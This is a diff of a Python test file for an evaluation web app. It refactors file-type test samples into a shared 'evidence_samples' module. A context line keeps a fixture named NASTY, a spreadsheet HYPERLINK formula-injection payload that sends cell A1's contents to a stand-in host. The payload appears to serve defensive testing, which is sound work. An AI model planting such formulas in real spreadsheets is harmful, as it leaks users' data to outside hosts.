@@ -15,6 +15,7 @@ from openpyxl import load_workbook
 from jixiao.web.evaluations import actions
 from jixiao.web.evaluations.models import Project
 
+from . import evidence_samples
 from .conftest import edited
 
 NASTY = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
@@ -355,23 +356,14 @@ def test_evidence_whose_content_is_not_its_type_is_refused(tree, draft, name, co
     assert not draft.evidence.exists()
 
 
-def _zip_with(part: str) -> bytes:
-    import zipfile
-
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as z:
-        z.writestr(part, "<x/>")
-    return buffer.getvalue()
-
-
 @pytest.mark.parametrize(
     ("name", "content"),
     [
-        ("a.pdf", b"%PDF-1.7\n"),
-        ("a.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 20),
-        ("a.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 8),
-        ("a.xlsx", _zip_with("xl/workbook.xml")),
-        ("a.docx", _zip_with("word/document.xml")),
+        ("a.pdf", evidence_samples.PDF),
+        ("a.jpeg", evidence_samples.image_bytes("JPEG")),
+        ("a.png", evidence_samples.image_bytes("PNG")),
+        ("a.xlsx", evidence_samples.xlsx_bytes()),
+        ("a.docx", evidence_samples.docx_bytes()),
     ],
 )
 def test_evidence_of_its_type_is_kept(tree, draft, name, content):
